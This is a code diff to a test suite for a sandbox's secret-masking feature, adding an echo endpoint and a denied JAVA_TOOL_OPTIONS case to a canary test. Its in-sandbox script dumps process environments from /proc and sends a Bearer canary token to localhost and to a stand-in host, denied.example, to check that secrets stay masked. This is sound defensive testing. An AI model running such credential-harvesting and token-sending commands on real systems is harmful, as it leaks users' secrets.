@@ -654,7 +654,8 @@ describe('credentials: denied and masked secrets (the canary test)', () => {
       req.on('data', (d) => (body += d))
       req.on('end', () => {
         seen.push({ url: req.url, auth: req.headers.authorization, body })
-        res.end('recorded\n')
+        // An echo, as some servers' error pages make: srt turns the real value back into its sentinel.
+        res.end(req.url === '/echo' ? `echoed ${req.headers.authorization}\n` : 'recorded\n')
       })
     }
     return { plain: await listen(http.createServer(handler)), secure: await listen(https.createServer({ key: tls.key, cert: tls.cert }, handler)), seen }
@@ -667,6 +668,8 @@ describe('credentials: denied and masked secrets (the canary test)', () => {
     `for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline; echo; done 2>/dev/null; env; ` +
     `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" -d "token=$CANARY_TOKEN" https://localhost:${s.secure}/inject; ` +
     `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" http://localhost:${s.plain}/cleartext; ` +
+    `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" https://localhost:${s.secure}/echo; ` +
+    `echo "java=$JAVA_TOOL_OPTIONS"; ` +
     `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" https://denied.example/ 2>&1; ` +
     `curl -sS -H "Authorization: Bearer $CANARY_TOKEN" https://localhost:1/ 2>&1; true`
 
@@ -676,6 +679,8 @@ describe('credentials: denied and masked secrets (the canary test)', () => {
       envVars: [
         { name: 'CANARY_TOKEN', mode: 'mask' },
         { name: 'CANARY_DENIED', mode: 'deny' },
+        // A variable srt extends: the caller's value must not come back through srt's.
+        { name: 'JAVA_TOOL_OPTIONS', mode: 'deny' },
       ],
       files: [{ path: file, mode: 'deny' }],
     },
@@ -687,11 +692,12 @@ describe('credentials: denied and masked secrets (the canary test)', () => {
     const sentinel = /masked=(fake_value_[0-9a-f-]+[a-z0-9_-]*) denied=unset\n/.exec(r.stdout)?.[1]
     assert.ok(sentinel, r.stdout + r.stderr)
     assert.equal(sentinel.length, canary.length, 'padded to the real length')
-    assert.match(r.stdout, /recorded\nrecorded\n/)
+    assert.match(r.stdout, new RegExp(`recorded\nrecorded\nechoed Bearer ${sentinel}\njava=-Dhttp\\.proxyHost=`))
     // Injected in the terminated tunnel, header and body; not in cleartext.
     assert.deepEqual(s.seen, [
       { url: '/inject', auth: `Bearer ${canary}`, body: `token=${canary}` },
       { url: '/cleartext', auth: `Bearer ${sentinel}`, body: '' },
+      { url: '/echo', auth: `Bearer ${canary}`, body: '' },
     ])
   }
 
@@ -699,7 +705,7 @@ describe('credentials: denied and masked secrets (the canary test)', () => {
     const s = await recording()
     const file = path.join(work, 'secret-file')
     fs.writeFileSync(file, `${inFile}\n`)
-    const wrap = (cmd, argv) => ['env', [`CANARY_TOKEN=${canary}`, `CANARY_DENIED=${denied}`, 'SRT_DEBUG=1', cmd, ...argv]]
+    const wrap = (cmd, argv) => ['env', [`CANARY_TOKEN=${canary}`, `CANARY_DENIED=${denied}`, `JAVA_TOOL_OPTIONS=-Dpw=${denied}`, 'SRT_DEBUG=1', cmd, ...argv]]
     const r = await run(script(s, file), settings(file).network, { wrap, extra: { credentials: settings(file).credentials } })
     check(r, s)
     assert.match(r.stderr, /\[SandboxDebug\]/, 'debug output was on')
@@ -713,12 +719,13 @@ describe('credentials: denied and masked secrets (the canary test)', () => {
     fs.writeFileSync(file, `${inFile}\n`)
     process.env.CANARY_TOKEN = canary
     process.env.CANARY_DENIED = denied
+    process.env.JAVA_TOOL_OPTIONS = `-Dpw=${denied}`
     const m = new SandboxManager()
     try {
       await m.initialize(config(settings(file)))
       const line = await m.wrapWithSandbox(script(s, file))
       assert.ok(!line.includes(canary) && !line.includes(denied))
-      const r = await collect('/bin/sh', ['-c', line], { env: { ...env, CANARY_TOKEN: canary, CANARY_DENIED: denied }, cwd: work })
+      const r = await collect('/bin/sh', ['-c', line], { env: { ...env, CANARY_TOKEN: canary, CANARY_DENIED: denied, JAVA_TOOL_OPTIONS: `-Dpw=${denied}` }, cwd: work })
       check(r, s)
       const lines = m.getSandboxViolationStore().getViolations().map((v) => v.line).join('\n')
       assert.match(lines, /denied\.example/)
@@ -726,6 +733,7 @@ describe('credentials: denied and masked secrets (the canary test)', () => {
     } finally {
       delete process.env.CANARY_TOKEN
       delete process.env.CANARY_DENIED
+      delete process.env.JAVA_TOOL_OPTIONS
       await m.reset()
     }
   })
